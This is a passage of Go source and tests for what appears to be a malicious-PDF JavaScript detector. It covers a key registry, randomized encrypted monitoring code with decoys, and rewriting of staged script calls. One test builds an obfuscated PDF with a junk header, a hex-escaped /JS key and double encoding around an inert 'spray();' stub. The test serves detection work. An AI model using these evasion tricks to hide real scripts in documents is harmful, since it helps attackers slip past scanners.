	// enter/exit for outer, enter/exit for stage 2.
	if len(*records) != 4 {
		t.Errorf("records = %d, want 4", len(*records))
	}
}

func TestStagedRewriteSetTimeOutFirstArg(t *testing.T) {
	ins, _ := newTestInstrumenter(t)
	src := `app.setTimeOut("delayed = 1;", 5000);`
	raw := buildDocBytes(t, src)
	res, err := ins.InstrumentBytes("delayed", raw)
	if err != nil {
		t.Fatal(err)
	}
	if res.StagedRewrites != 1 {
		t.Fatalf("StagedRewrites = %d", res.StagedRewrites)
	}
	monitored := extractScriptFromResult(t, res)
	it := js.New()
	installSOAP(it)
	var expr string
	var ms float64
	app := js.NewHostObject("app")
	app.Set("setTimeOut", js.ObjectValue(js.NewHostFunc("setTimeOut", func(_ *js.Interp, _ js.Value, args []js.Value) (js.Value, error) {
		expr = args[0].Str()
		ms = args[1].Num()
		return js.Undefined(), nil
	})))
	it.Global.Declare("app", js.ObjectValue(app))
	if _, err := it.Run(monitored); err != nil {
		t.Fatal(err)
	}
	if ms != 5000 {
		t.Errorf("ms = %v (second arg corrupted)", ms)
	}
	if strings.Contains(expr, "delayed = 1") {
		t.Error("timer code not wrapped")
	}
	if _, err := it.Run(expr); err != nil {
		t.Fatalf("timer code run: %v", err)
	}
	if v, _ := it.Global.Lookup("delayed"); v.Num() != 1 {
		t.Errorf("delayed = %v", v.Num())
	}
}

func TestDeinstrumentRestoresOriginal(t *testing.T) {
	ins, reg := newTestInstrumenter(t)
	original := "var x = 123; x;"
	raw := buildDocBytes(t, original)
	res, err := ins.InstrumentBytes("roundtrip", raw)
	if err != nil {
		t.Fatal(err)
	}
	if reg.Len() != 1 {
		t.Fatalf("registry size = %d", reg.Len())
	}
	restored, err := ins.Deinstrument(res.Output, res.Spec)
	if err != nil {
		t.Fatal(err)
	}
	doc, err := pdf.Parse(restored, pdf.ParseOptions{})
	if err != nil {
		t.Fatal(err)
	}
	chains, err := pdf.ReconstructChains(doc)
	if err != nil {
		t.Fatal(err)
	}
	if len(chains.Chains) != 1 || chains.Chains[0].Source != original {
		t.Errorf("restored script = %+v", chains.Chains)
	}
	if reg.Len() != 0 {
		t.Errorf("registry not cleaned: %d", reg.Len())
	}
}

func TestRegistryValidate(t *testing.T) {
	_, reg := newTestInstrumenter(t)
	rec := DocRecord{DocID: "d", InstrKey: "abc123", ContentHash: "h1"}
	if err := reg.Register(rec); err != nil {
		t.Fatal(err)
	}
	if _, err := reg.Validate("testdetector01:abc123"); err != nil {
		t.Errorf("valid key rejected: %v", err)
	}
	for _, bad := range []string{
		"testdetector01:unknown", // unregistered instr key
		"otherdetector:abc123",   // foreign detector
		"nocolon",                // malformed
		":abc123",                // empty detector
		"testdetector01:",        // empty key
	} {
		if _, err := reg.Validate(bad); err == nil {
			t.Errorf("%q: expected validation failure", bad)
		}
	}
}

func TestFeatureExtractionOnObfuscatedDoc(t *testing.T) {
	// Hand-build an obfuscated malicious-style doc: junk header, hex name,
	// empty object, double encoding.
	d := pdf.NewDocument()
	script := "spray();"
	raw, filterObj, err := pdf.EncodeChain([]pdf.Name{pdf.FilterFlate, pdf.FilterASCIIHex}, []byte(script))
	if err != nil {
		t.Fatal(err)
	}
	jsData := d.Add(&pdf.Stream{Dict: pdf.Dict{"Filter": filterObj}, Raw: raw})
	action := d.Add(pdf.Dict{"S": pdf.Name("JavaScript"), "JS": jsData})
	d.Add(pdf.Dict{}) // empty decoy
	catalog := d.Add(pdf.Dict{"Type": pdf.Name("Catalog"), "OpenAction": action})
	d.Trailer["Root"] = catalog
	data, err := pdf.Write(d, pdf.WriteOptions{HeaderJunk: []byte("MZ\x90garbage\n")})
	if err != nil {
		t.Fatal(err)
	}
	// Obfuscate the /JS key at byte level.
	data = []byte(strings.Replace(string(data), "/JS ", "/J#53 ", 1))

	feats, chains, _, err := Analyze(data)
	if err != nil {
		t.Fatal(err)
	}
	if !feats.HasJavaScript {
		t.Fatal("javascript not found through obfuscation")
	}
	if !feats.HeaderObfuscated {
		t.Error("header obfuscation missed")
	}
	if feats.HexCodeCount == 0 {
		t.Error("hex keyword missed")
	}
	if feats.EmptyObjects != 1 {
		t.Errorf("empty objects = %d", feats.EmptyObjects)
	}
	if feats.EncodingLevels != 2 {
		t.Errorf("encoding levels = %d", feats.EncodingLevels)
	}
	vec := feats.Vector()
	if vec[1] != 1 || vec[2] != 1 || vec[3] != 1 || vec[4] != 1 {
		t.Errorf("vector = %v", vec)
	}
	if chains.Ratio() < RatioThreshold {
		t.Errorf("ratio = %v below threshold for blank malicious doc", chains.Ratio())
	}
}
