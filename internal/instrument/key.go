package instrument

import (
	"crypto/rand"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"os"
	"sort"
	"strings"
	"sync"
)

// Key protects the SOAP channel between context monitoring code and the
// runtime detector. Per §III-C it has two parts: a DetectorID generated at
// install time (filters out monitoring code instrumented by a different
// detector, e.g. in a downloaded pre-instrumented document), and an
// InstrumentationKey generated per document.
type Key struct {
	DetectorID string
	InstrKey   string
}

// String renders the wire form "DetectorID:InstrumentationKey".
func (k Key) String() string { return k.DetectorID + ":" + k.InstrKey }

// ParseKey splits a wire-form key.
func ParseKey(s string) (Key, error) {
	det, ik, ok := strings.Cut(s, ":")
	if !ok || det == "" || ik == "" {
		return Key{}, fmt.Errorf("malformed key %q", s)
	}
	return Key{DetectorID: det, InstrKey: ik}, nil
}

const keyBytes = 12

// randHex reads from rng (crypto/rand when nil) and hex-encodes.
func randHex(rng io.Reader, n int) (string, error) {
	if rng == nil {
		rng = rand.Reader
	}
	buf := make([]byte, n)
	if _, err := io.ReadFull(rng, buf); err != nil {
		return "", fmt.Errorf("key material: %w", err)
	}
	return hex.EncodeToString(buf), nil
}

// NewDetectorID generates an install-time detector identity.
func NewDetectorID(rng io.Reader) (string, error) { return randHex(rng, keyBytes) }

// NewInstrKey generates a per-document instrumentation key.
func NewInstrKey(rng io.Reader) (string, error) { return randHex(rng, keyBytes) }

// DocRecord describes one instrumented document in the registry.
type DocRecord struct {
	// DocID is the caller-chosen identity (typically a path or corpus id).
	DocID string `json:"doc_id"`
	// InstrKey is the per-document key.
	InstrKey string `json:"instr_key"`
	// ContentHash is the SHA-256 of the pre-instrumentation bytes, used to
	// refuse duplicate instrumentation.
	ContentHash string `json:"content_hash"`
	// ScriptCount is the number of monitoring-code insertions.
	ScriptCount int `json:"script_count"`
	// StaticVector is the normalized static feature vector [F1..F5]
	// extracted by the front-end; the runtime detector folds it into the
	// malscore.
	StaticVector [5]int `json:"static_vector"`
}

// Registry maintains the mapping between instrumented documents and keys
// (§III-C: "We also maintain a mapping between instrumented document and
// key"). It is shared, conceptually, between the front-end (writes) and the
// runtime detector (reads).
type Registry struct {
	mu       sync.RWMutex
	byKey    map[string]DocRecord
	byHash   map[string]DocRecord
	detector string
}

// NewRegistry returns a registry bound to a detector identity.
func NewRegistry(detectorID string) *Registry {
	return &Registry{
		byKey:    make(map[string]DocRecord),
		byHash:   make(map[string]DocRecord),
		detector: detectorID,
	}
}

// DetectorID returns the bound detector identity.
func (r *Registry) DetectorID() string {
	r.mu.RLock()
	defer r.mu.RUnlock()
	return r.detector
}

// ErrDuplicate is returned when a document is already instrumented.
var ErrDuplicate = errors.New("document already instrumented")

// Register records an instrumented document. It fails with ErrDuplicate if
// the content hash is already present, enforcing the paper's "no duplicate
// instrumentation on a single document" rule.
func (r *Registry) Register(rec DocRecord) error {
	r.mu.Lock()
	defer r.mu.Unlock()
	if _, exists := r.byHash[rec.ContentHash]; exists {
		return fmt.Errorf("%w: hash %s", ErrDuplicate, rec.ContentHash[:12])
	}
	if _, exists := r.byKey[rec.InstrKey]; exists {
		return fmt.Errorf("%w: key collision", ErrDuplicate)
	}
	r.byKey[rec.InstrKey] = rec
	r.byHash[rec.ContentHash] = rec
	return nil
}

// LookupKey resolves an instrumentation key to its document record.
func (r *Registry) LookupKey(instrKey string) (DocRecord, bool) {
	r.mu.RLock()
	defer r.mu.RUnlock()
	rec, ok := r.byKey[instrKey]
	return rec, ok
}

// SeenHash reports whether the content hash is registered.
func (r *Registry) SeenHash(hash string) bool {
	r.mu.RLock()
	defer r.mu.RUnlock()
	_, ok := r.byHash[hash]
	return ok
}

// Remove drops a record (de-instrumentation).
func (r *Registry) Remove(instrKey string) {
	r.mu.Lock()
	defer r.mu.Unlock()
	if rec, ok := r.byKey[instrKey]; ok {
		delete(r.byKey, instrKey)
		delete(r.byHash, rec.ContentHash)
	}
}

// Len returns the number of registered documents.
func (r *Registry) Len() int {
	r.mu.RLock()
	defer r.mu.RUnlock()
	return len(r.byKey)
}

// registryFile is the JSON-on-disk form of a registry.
type registryFile struct {
	DetectorID string      `json:"detector_id"`
	Records    []DocRecord `json:"records"`
}

// SaveJSON persists the registry to path.
func (r *Registry) SaveJSON(path string) error {
	r.mu.RLock()
	file := registryFile{DetectorID: r.detector}
	for _, rec := range r.byKey {
		file.Records = append(file.Records, rec)
	}
	r.mu.RUnlock()
	sort.Slice(file.Records, func(i, j int) bool { return file.Records[i].InstrKey < file.Records[j].InstrKey })
	data, err := json.MarshalIndent(file, "", "  ")
	if err != nil {
		return fmt.Errorf("registry encode: %w", err)
	}
	if err := os.WriteFile(path, data, 0o600); err != nil {
		return fmt.Errorf("registry write: %w", err)
	}
	return nil
}

// LoadRegistryJSON reads a registry from path.
func LoadRegistryJSON(path string) (*Registry, error) {
	data, err := os.ReadFile(path)
	if err != nil {
		return nil, fmt.Errorf("registry read: %w", err)
	}
	var file registryFile
	if err := json.Unmarshal(data, &file); err != nil {
		return nil, fmt.Errorf("registry decode: %w", err)
	}
	if file.DetectorID == "" {
		return nil, fmt.Errorf("registry %s: missing detector id", path)
	}
	reg := NewRegistry(file.DetectorID)
	for _, rec := range file.Records {
		if err := reg.Register(rec); err != nil {
			return nil, fmt.Errorf("registry %s: %w", path, err)
		}
	}
	return reg, nil
}

// Validate checks a wire-form key: the DetectorID must match and the
// InstrumentationKey must be registered. This is the detector-side check;
// any failure is treated as a fake message (zero tolerance).
func (r *Registry) Validate(wire string) (DocRecord, error) {
	k, err := ParseKey(wire)
	if err != nil {
		return DocRecord{}, err
	}
	r.mu.RLock()
	defer r.mu.RUnlock()
	if k.DetectorID != r.detector {
		return DocRecord{}, fmt.Errorf("foreign detector id %q", k.DetectorID)
	}
	rec, ok := r.byKey[k.InstrKey]
	if !ok {
		return DocRecord{}, fmt.Errorf("unknown instrumentation key")
	}
	return rec, nil
}
