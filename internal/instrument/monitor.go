package instrument

import (
	"fmt"
	"math/rand"
	"strings"
)

// Cipher identifies a script-encryption scheme. Per §IV ("Runtime Patching
// Attack"), the original script is encrypted and the decryptor embedded in
// the prologue, so malicious Javascript cannot execute without the context
// monitoring code taking control first. A scheme is chosen at random per
// script.
type Cipher int

// Supported ciphers.
const (
	// CipherXORHex XORs source bytes with a random key and stores the
	// result as a hex string. Only valid for ASCII sources.
	CipherXORHex Cipher = iota + 1
	// CipherShiftEscape adds a random shift to every UTF-16 code unit and
	// stores the result as %uXXXX escape text (works for any source).
	CipherShiftEscape
)

// monitorBuilder generates context monitoring code with randomized
// structure: randomized identifiers, shuffled declaration order, and decoy
// copies of fake monitoring code, defeating signature-based key search
// (§IV-B "Mimicry Attack").
type monitorBuilder struct {
	rng        *rand.Rand
	endpoint   string
	detectorID string
}

const nameAlphabet = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"

// freshName returns a random identifier unlike any previously issued name.
func (b *monitorBuilder) freshName(used map[string]bool) string {
	for {
		var sb strings.Builder
		sb.WriteByte('_')
		n := 5 + b.rng.Intn(5)
		for i := 0; i < n; i++ {
			sb.WriteByte(nameAlphabet[b.rng.Intn(len(nameAlphabet))])
		}
		name := sb.String()
		if !used[name] {
			used[name] = true
			return name
		}
	}
}

func isASCIIString(s string) bool {
	for i := 0; i < len(s); i++ {
		if s[i] >= 0x80 {
			return false
		}
	}
	return true
}

// encryptXORHex produces the payload literal and decryptor body for
// CipherXORHex.
func (b *monitorBuilder) encryptXORHex(src string) (payload string, jsKey string) {
	keyLen := 4 + b.rng.Intn(5)
	key := make([]byte, keyLen)
	for i := range key {
		key[i] = byte(1 + b.rng.Intn(255))
	}
	const hexdig = "0123456789abcdef"
	var sb strings.Builder
	sb.Grow(len(src) * 2)
	for i := 0; i < len(src); i++ {
		c := src[i] ^ key[i%keyLen]
		sb.WriteByte(hexdig[c>>4])
		sb.WriteByte(hexdig[c&0xf])
	}
	keyParts := make([]string, keyLen)
	for i, k := range key {
		keyParts[i] = fmt.Sprintf("%d", k)
	}
	return sb.String(), "[" + strings.Join(keyParts, ",") + "]"
}

// ackSalt is the decryption contribution of the detector's acknowledgement
// ("ok" → 'o'+'k' = 218). Fusing the enter-ack into the cipher is the §IV
// control-retaining defense: monitoring code cannot be patched out while
// keeping the decryptor alive, because without a successful (non-forged)
// enter notification there is no ack material and decryption fails.
const ackSalt = 'o' + 'k'

// xorHexDecryptor emits a JS function decoding encryptXORHex output. The
// function takes the enter-ack status string; its character codes feed the
// key stream. Characters are collected into an array and joined once so
// decryption stays linear in allocations.
func xorHexDecryptor(fnName, payloadVar, keyVar string, names map[string]bool, b *monitorBuilder) string {
	i := b.freshName(names)
	acc := b.freshName(names)
	st := b.freshName(names)
	salt := b.freshName(names)
	return fmt.Sprintf(
		"function %s(%s){var %s=%s.charCodeAt(0)+%s.charCodeAt(1);var %s=[];"+
			"for(var %s=0;%s<%s.length;%s+=2){%s[%s/2]=String.fromCharCode((parseInt(%s.substr(%s,2),16)^%s[(%s/2)%%%s.length])-%s+%d);}return %s.join('');}",
		fnName, st, salt, st, st, acc,
		i, i, payloadVar, i, acc, i, payloadVar, i, keyVar, i, keyVar, salt, ackSalt, acc)
}

// encryptShiftEscape produces the payload literal and shift for
// CipherShiftEscape. The shift is chosen so no encrypted unit lands in the
// UTF-16 surrogate range, which unescape() could not represent.
func (b *monitorBuilder) encryptShiftEscape(src string) (payload string, shift int) {
	var units []int
	for _, r := range src {
		if r > 0xffff {
			r -= 0x10000
			units = append(units, int(0xd800+(r>>10)), int(0xdc00+(r&0x3ff)))
			continue
		}
		units = append(units, int(r))
	}
	shift = b.pickSafeShift(units)
	const hexdig = "0123456789abcdef"
	var sb strings.Builder
	sb.Grow(len(units) * 6)
	for _, u := range units {
		v := (u + shift) % 0x10000
		sb.WriteString("%u")
		sb.WriteByte(hexdig[(v>>12)&0xf])
		sb.WriteByte(hexdig[(v>>8)&0xf])
		sb.WriteByte(hexdig[(v>>4)&0xf])
		sb.WriteByte(hexdig[v&0xf])
	}
	return sb.String(), shift
}

func (b *monitorBuilder) pickSafeShift(units []int) int {
	for tries := 0; tries < 256; tries++ {
		shift := 1 + b.rng.Intn(0xfff0)
		safe := true
		for _, u := range units {
			v := (u + shift) % 0x10000
			if v >= 0xd800 && v < 0xe000 {
				safe = false
				break
			}
		}
		if safe {
			return shift
		}
	}
	// No single shift avoids the surrogate band (needs sources spanning
	// most of the code-unit space); shift 0x2800 keeps ASCII and common
	// escape payload bytes clear of it.
	return 0x2800
}

func shiftEscapeDecryptor(fnName, payloadVar string, shift int, names map[string]bool, b *monitorBuilder) string {
	i := b.freshName(names)
	raw := b.freshName(names)
	acc := b.freshName(names)
	st := b.freshName(names)
	salt := b.freshName(names)
	inv := (0x10000 - shift - ackSalt + 0x20000) % 0x10000
	return fmt.Sprintf(
		"function %s(%s){var %s=%s.charCodeAt(0)+%s.charCodeAt(1);var %s=unescape(%s);var %s=[];"+
			"for(var %s=0;%s<%s.length;%s++){%s[%s]=String.fromCharCode((%s.charCodeAt(%s)+%d+%s)%%65536);}return %s.join('');}",
		fnName, st, salt, st, st, raw, payloadVar, acc,
		i, i, raw, i, acc, i, raw, i, inv, salt, acc)
}

// jsStringLiteral renders s as a single-quoted JS string literal. This is
// the paper's "only operation we perform is to scan the code and add '\\'
// for quotes" step, extended with control-character escaping so the literal
// survives any source.
func jsStringLiteral(s string) string {
	var sb strings.Builder
	sb.Grow(len(s) + 2)
	sb.WriteByte('\'')
	for _, r := range s {
		switch r {
		case '\'', '\\':
			sb.WriteByte('\\')
			sb.WriteRune(r)
		case '\n':
			sb.WriteString("\\n")
		case '\r':
			sb.WriteString("\\r")
		case '\t':
			sb.WriteString("\\t")
		default:
			if r < 0x20 {
				sb.WriteString(fmt.Sprintf("\\u%04x", r))
			} else {
				sb.WriteRune(r)
			}
		}
	}
	sb.WriteByte('\'')
	return sb.String()
}

// soapCall renders the prologue/epilogue SOAP request expression (no
// trailing semicolon so the caller can bind the result).
func (b *monitorBuilder) soapCall(keyVar, event string, seq int) string {
	return fmt.Sprintf(
		"SOAP.request({cURL:%s,oRequest:{Event:%q,Key:%s,Seq:%d}})",
		jsStringLiteral(b.endpoint), event, keyVar, seq)
}

// decoy generates a fake context-monitoring fragment: a key variable with
// exactly the same shape as the real protection key, plus a decryptor-
// looking function that is never meaningfully invoked. An attacker scanning
// memory or source for "the" key finds several indistinguishable
// candidates; guessing wrong trips the zero-tolerance fake-message alarm.
func (b *monitorBuilder) decoy(names map[string]bool) string {
	kv := b.freshName(names)
	fn := b.freshName(names)
	fakeIK := make([]byte, keyBytes)
	for i := range fakeIK {
		fakeIK[i] = byte(b.rng.Intn(256))
	}
	fake := fmt.Sprintf("%s:%x", b.detectorID, fakeIK)
	i := b.freshName(names)
	acc := b.freshName(names)
	return fmt.Sprintf(
		"var %s=%s;function %s(%s){var %s='';return %s+%s;}if(0){%s(%s);}",
		kv, jsStringLiteral(fake), fn, i, acc, acc, i, fn, kv)
}

// build wraps source in context monitoring code. The generated layout is
//
//	<shuffled: key var | decryptor | payload var | 0-2 decoys>
//	SOAP enter
//	try { eval(decrypt()); } finally { SOAP exit }
//
// Exact identifier names, cipher choice, key material and decoy count all
// come from the builder's RNG.
func (b *monitorBuilder) build(key Key, seq int, source string) string {
	names := map[string]bool{}
	keyVar := b.freshName(names)
	payloadVar := b.freshName(names)
	decryptFn := b.freshName(names)

	cipher := CipherShiftEscape
	if isASCIIString(source) && b.rng.Intn(2) == 0 {
		cipher = CipherXORHex
	}

	var decls []string
	decls = append(decls, fmt.Sprintf("var %s=%s;", keyVar, jsStringLiteral(key.String())))

	switch cipher {
	case CipherXORHex:
		payload, jsKey := b.encryptXORHex(source)
		xkVar := b.freshName(names)
		decls = append(decls,
			fmt.Sprintf("var %s=%s;", payloadVar, jsStringLiteral(payload)),
			fmt.Sprintf("var %s=%s;", xkVar, jsKey),
			xorHexDecryptor(decryptFn, payloadVar, xkVar, names, b),
		)
	default:
		payload, shift := b.encryptShiftEscape(source)
		decls = append(decls,
			fmt.Sprintf("var %s=%s;", payloadVar, jsStringLiteral(payload)),
			shiftEscapeDecryptor(decryptFn, payloadVar, shift, names, b),
		)
	}

	for n := 1 + b.rng.Intn(2); n > 0; n-- {
		decls = append(decls, b.decoy(names))
	}
	b.rng.Shuffle(len(decls), func(i, j int) { decls[i], decls[j] = decls[j], decls[i] })

	ackVar := b.freshName(names)
	var sb strings.Builder
	for _, d := range decls {
		sb.WriteString(d)
		sb.WriteByte('\n')
	}
	// The enter ack feeds the decryptor: no successful enter, no script.
	sb.WriteString(fmt.Sprintf("var %s=%s;\n", ackVar, b.soapCall(keyVar, "enter", seq)))
	sb.WriteString(fmt.Sprintf("try{eval(%s(%s.status));}finally{%s;}", decryptFn, ackVar, b.soapCall(keyVar, "exit", seq)))
	return sb.String()
}
