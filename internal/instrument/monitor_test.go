package instrument

import (
	"math/rand"
	"strings"
	"testing"
	"testing/quick"

	"pdfshield/internal/js"
)

// runDecryptor executes decls + a call to the decryptor with ack "ok" and
// returns the decrypted string.
func runDecryptor(t *testing.T, decls []string, decryptFn string) string {
	t.Helper()
	src := strings.Join(decls, "\n") + "\nout = " + decryptFn + "('ok');"
	it := js.New()
	if _, err := it.Run(src); err != nil {
		t.Fatalf("decryptor run: %v\nsource:\n%s", err, src)
	}
	v, ok := it.Global.Lookup("out")
	if !ok || !v.IsString() {
		t.Fatalf("decryptor produced %v", v)
	}
	return v.Str()
}

func TestXORHexCipherRoundTripProperty(t *testing.T) {
	b := &monitorBuilder{rng: rand.New(rand.NewSource(1)), detectorID: "d"}
	prop := func(raw []byte) bool {
		// ASCII-only sources for the XOR cipher.
		src := make([]byte, 0, len(raw))
		for _, c := range raw {
			src = append(src, c&0x7f)
		}
		names := map[string]bool{}
		payloadVar := b.freshName(names)
		keyVar := b.freshName(names)
		fn := b.freshName(names)
		payload, jsKey := b.encryptXORHex(string(src))
		decls := []string{
			"var " + payloadVar + "=" + jsStringLiteral(payload) + ";",
			"var " + keyVar + "=" + jsKey + ";",
			xorHexDecryptor(fn, payloadVar, keyVar, names, b),
		}
		return runDecryptor(t, decls, fn) == string(src)
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}

func TestShiftEscapeCipherRoundTripProperty(t *testing.T) {
	b := &monitorBuilder{rng: rand.New(rand.NewSource(2)), detectorID: "d"}
	prop := func(src string) bool {
		// Strip supplementary-plane runes (documented BMP-only limit).
		var sb strings.Builder
		for _, r := range src {
			if r <= 0xffff && (r < 0xd800 || r >= 0xe000) {
				sb.WriteRune(r)
			}
		}
		clean := sb.String()
		names := map[string]bool{}
		payloadVar := b.freshName(names)
		fn := b.freshName(names)
		payload, shift := b.encryptShiftEscape(clean)
		decls := []string{
			"var " + payloadVar + "=" + jsStringLiteral(payload) + ";",
			shiftEscapeDecryptor(fn, payloadVar, shift, names, b),
		}
		return runDecryptor(t, decls, fn) == clean
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 50}); err != nil {
		t.Error(err)
	}
}

func TestDecryptorRejectsWrongAck(t *testing.T) {
	b := &monitorBuilder{rng: rand.New(rand.NewSource(3)), detectorID: "d"}
	names := map[string]bool{}
	payloadVar := b.freshName(names)
	fn := b.freshName(names)
	payload, shift := b.encryptShiftEscape("var secret = 1;")
	src := "var " + payloadVar + "=" + jsStringLiteral(payload) + ";\n" +
		shiftEscapeDecryptor(fn, payloadVar, shift, names, b) +
		"\nout = " + fn + "('no');" // wrong ack
	it := js.New()
	if _, err := it.Run(src); err != nil {
		t.Fatalf("run: %v", err)
	}
	v, _ := it.Global.Lookup("out")
	if v.Str() == "var secret = 1;" {
		t.Error("wrong ack still decrypted the payload")
	}
}

func TestJSStringLiteralRoundTripProperty(t *testing.T) {
	prop := func(s string) bool {
		var sb strings.Builder
		for _, r := range s {
			if r <= 0xffff && (r < 0xd800 || r >= 0xe000) {
				sb.WriteRune(r)
			}
		}
		clean := sb.String()
		it := js.New()
		v, err := it.Run("x = " + jsStringLiteral(clean) + ";")
		if err != nil {
			return false
		}
		return v.Str() == clean
	}
	if err := quick.Check(prop, &quick.Config{MaxCount: 200}); err != nil {
		t.Error(err)
	}
}

func TestMonitorLayoutRandomized(t *testing.T) {
	// Two documents instrumented by the same instrumenter must produce
	// structurally different monitoring code (identifiers, order, decoys).
	reg := NewRegistry("layoutdet00001")
	ins := New(reg, Options{Seed: 9})
	b := &monitorBuilder{rng: ins.rng, endpoint: ins.endpoint, detectorID: "layoutdet00001"}
	key := Key{DetectorID: "layoutdet00001", InstrKey: "k1"}
	a := b.build(key, 1, "var x=1;")
	c := b.build(key, 1, "var x=1;")
	if a == c {
		t.Error("monitoring code not randomized across builds")
	}
}

func TestPickSafeShiftAvoidsSurrogates(t *testing.T) {
	b := &monitorBuilder{rng: rand.New(rand.NewSource(4)), detectorID: "d"}
	units := []int{0x41, 0x7fff, 0xd7ff, 0x20}
	for trial := 0; trial < 50; trial++ {
		shift := b.pickSafeShift(units)
		for _, u := range units {
			v := (u + shift) % 0x10000
			if v >= 0xd800 && v < 0xe000 {
				t.Fatalf("shift %d lands unit %#x in surrogate range", shift, u)
			}
		}
	}
}
