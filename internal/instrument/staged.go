package instrument

import (
	"strings"
)

// Table IV of the paper: methods that add scripts at runtime, plus the two
// delayed-execution methods of §IV-B. The front-end statically rewrites the
// code-string parameters of these calls so dynamically added or delayed
// scripts carry their own context monitoring code.
var stagedMethods = map[string]bool{
	"addScript":     true, // Doc.addScript(name, script)
	"setAction":     true, // Doc/Field/Bookmark.setAction(..., script)
	"setPageAction": true, // Doc.setPageAction(page, trigger, script)
	"setTimeOut":    true, // app.setTimeOut(expr, ms)
	"setInterval":   true, // app.setInterval(expr, ms)
}

// timerMethods take the code string as their FIRST argument; the Table IV
// script-adding methods take it as their LAST string argument.
var timerMethods = map[string]bool{
	"setTimeOut":  true,
	"setInterval": true,
}

const maxStagedDepth = 8

// stagedCall is one located call site in the source.
type stagedCall struct {
	method string
	// args holds the token spans of each top-level argument.
	args []argSpan
}

type argSpan struct {
	start, end int // byte offsets into the source
	// isStringLit reports the argument is exactly one string literal.
	isStringLit bool
	// value is the decoded literal when isStringLit.
	value string
}

// rewriteStaged returns source with the code-string arguments of staged
// methods replaced by wrapped versions produced by wrap. The wrap callback
// receives the inner code and returns the monitored replacement; recursion
// into nested staged calls happens before wrapping.
func (ins *Instrumenter) rewriteStaged(source string, depth int, wrap func(inner string) string) (string, int) {
	if depth > maxStagedDepth {
		return source, 0
	}
	calls, err := locateStagedCalls(source)
	if err != nil || len(calls) == 0 {
		return source, 0
	}
	count := 0
	// Apply replacements back-to-front so earlier spans stay valid.
	out := source
	for i := len(calls) - 1; i >= 0; i-- {
		c := calls[i]
		span, ok := pickCodeArg(c)
		if !ok {
			continue
		}
		inner := span.value
		rewritten, nested := ins.rewriteStaged(inner, depth+1, wrap)
		count += nested
		wrapped := wrap(rewritten)
		out = out[:span.start] + jsStringLiteral(wrapped) + out[span.end:]
		count++
	}
	return out, count
}

// pickCodeArg selects which argument carries code: first for timers, last
// string literal otherwise.
func pickCodeArg(c stagedCall) (argSpan, bool) {
	if timerMethods[c.method] {
		if len(c.args) > 0 && c.args[0].isStringLit {
			return c.args[0], true
		}
		return argSpan{}, false
	}
	for i := len(c.args) - 1; i >= 0; i-- {
		if c.args[i].isStringLit {
			return c.args[i], true
		}
	}
	return argSpan{}, false
}

// locateStagedCalls lexes source and finds calls to staged methods,
// recording top-level argument spans. Lexing (not parsing) keeps this
// robust on sources that our parser would reject but a real engine might
// accept.
func locateStagedCalls(source string) ([]stagedCall, error) {
	lx := newLexerShim(source)
	toks, err := lx.all()
	if err != nil {
		return nil, err
	}
	var calls []stagedCall
	for i := 0; i+1 < len(toks); i++ {
		t := toks[i]
		if !t.isIdent || !stagedMethods[t.text] {
			continue
		}
		if !toks[i+1].isPunct("(") {
			continue
		}
		call, end, ok := collectArgs(source, toks, i+1)
		if !ok {
			continue
		}
		call.method = t.text
		calls = append(calls, call)
		i = end
	}
	return calls, nil
}

// collectArgs walks from the opening paren token index, splitting top-level
// arguments. Returns the call and the index of the closing paren.
func collectArgs(source string, toks []shimToken, open int) (stagedCall, int, bool) {
	depth := 0
	var call stagedCall
	argStartTok := open + 1
	flush := func(endTok int) {
		if endTok <= argStartTok-1 {
			return
		}
		first := toks[argStartTok]
		last := toks[endTok]
		span := argSpan{start: first.start, end: last.end}
		if endTok == argStartTok && first.isString {
			span.isStringLit = true
			span.value = first.text
		}
		call.args = append(call.args, span)
	}
	for i := open; i < len(toks); i++ {
		t := toks[i]
		switch {
		case t.isPunct("(") || t.isPunct("[") || t.isPunct("{"):
			depth++
		case t.isPunct(")") || t.isPunct("]") || t.isPunct("}"):
			depth--
			if depth == 0 {
				if i > argStartTok {
					flush(i - 1)
				}
				return call, i, true
			}
		case t.isPunct(",") && depth == 1:
			flush(i - 1)
			argStartTok = i + 1
		}
	}
	return call, 0, false
}

// shimToken is a minimal token view for staged-call scanning.
type shimToken struct {
	start, end int
	text       string
	isIdent    bool
	isString   bool
	punct      string
}

func (t shimToken) isPunct(s string) bool { return t.punct == s }

// lexerShim re-lexes JS source tracking byte spans. It reuses the js
// package's rules conceptually but runs locally to keep span bookkeeping
// simple and to tolerate partial lexing.
type lexerShim struct {
	src string
	pos int
}

func newLexerShim(src string) *lexerShim { return &lexerShim{src: src} }

func (l *lexerShim) all() ([]shimToken, error) {
	var toks []shimToken
	for {
		t, ok := l.next()
		if !ok {
			return toks, nil
		}
		toks = append(toks, t)
	}
}

func (l *lexerShim) next() (shimToken, bool) {
	l.skipSpace()
	if l.pos >= len(l.src) {
		return shimToken{}, false
	}
	start := l.pos
	c := l.src[l.pos]
	switch {
	case c == '"' || c == '\'':
		val, ok := l.lexString(c)
		if !ok {
			// Unterminated string: consume to end, emit nothing further.
			l.pos = len(l.src)
			return shimToken{}, false
		}
		return shimToken{start: start, end: l.pos, text: val, isString: true}, true
	case isIdentStartByte(c):
		for l.pos < len(l.src) && isIdentPartByte(l.src[l.pos]) {
			l.pos++
		}
		return shimToken{start: start, end: l.pos, text: l.src[start:l.pos], isIdent: true}, true
	case c >= '0' && c <= '9':
		for l.pos < len(l.src) && (isIdentPartByte(l.src[l.pos]) || l.src[l.pos] == '.') {
			l.pos++
		}
		return shimToken{start: start, end: l.pos, text: l.src[start:l.pos]}, true
	default:
		// Multi-char punctuators are irrelevant to span tracking except
		// that they must not be split into '(' etc. incorrectly; single
		// chars suffice because we only match ( ) [ ] { } ,
		l.pos++
		return shimToken{start: start, end: l.pos, punct: string(c)}, true
	}
}

func (l *lexerShim) skipSpace() {
	for l.pos < len(l.src) {
		c := l.src[l.pos]
		switch {
		case c == ' ' || c == '\t' || c == '\n' || c == '\r' || c == '\v' || c == '\f':
			l.pos++
		case c == '/' && l.pos+1 < len(l.src) && l.src[l.pos+1] == '/':
			for l.pos < len(l.src) && l.src[l.pos] != '\n' {
				l.pos++
			}
		case c == '/' && l.pos+1 < len(l.src) && l.src[l.pos+1] == '*':
			idx := strings.Index(l.src[l.pos+2:], "*/")
